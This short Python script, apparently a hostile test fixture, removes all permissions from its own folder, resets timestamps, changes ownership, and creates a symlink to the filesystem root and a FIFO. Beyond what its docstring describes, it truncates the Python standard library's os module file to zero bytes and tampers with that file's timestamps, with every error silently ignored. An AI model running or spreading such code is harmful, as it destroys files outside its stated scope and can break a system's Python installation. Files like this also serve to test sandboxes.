"""Takes the rights from its folder, and gives files links, times and owners of its own."""

import os

for _act in (
    lambda: os.chmod(".", 0),
    lambda: os.utime(".", (0, 0)),
    lambda: os.symlink("/", "hostile-link"),
    lambda: os.link(os.__file__, "hostile-hard-link"),
    lambda: os.mkfifo("hostile-fifo"),
    lambda: os.chown(".", 12345, 12345),
    lambda: os.truncate(os.__file__, 0),
    lambda: os.utime(os.__file__, (0, 0)),
):
    try:
        _act()
    except OSError:
        pass
